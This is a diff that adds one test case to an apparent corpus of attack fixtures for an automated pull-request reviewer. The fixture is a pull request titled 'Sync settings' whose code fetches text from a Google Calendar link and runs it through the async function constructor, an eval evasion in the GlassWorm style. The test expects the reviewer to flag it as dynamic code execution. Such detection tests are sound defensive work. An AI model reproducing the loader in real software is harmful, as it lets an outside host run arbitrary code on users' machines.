@@ -3710,4 +3710,22 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['medium', 'high'], action: ['needs_discussion', 'request_changes'], findings: ['protection-switched-off'] },
   },
+  {
+    id: 'attack-glassworm-calendar-async-function',
+    description: 'GlassWorm-style dead drop (2025): code that fetches a Google Calendar event\'s page and runs the text it gets through the async function constructor (`Object.getPrototypeOf(async function () {}).constructor`), eval without the word.',
+    fixture: () =>
+      attackPr({
+        repo: 'tidy-format',
+        number: 11034,
+        title: 'Sync settings',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/sync.js',
+            head: lines('(async () => {', "  const code = await (await fetch('https://calendar.app.google/M2ZCvM8ULL56PD1d6')).text();", '  const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor;', '  await new AsyncFunction(code)();', '})();'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['dynamic-code-execution'] },
+  },
 ];
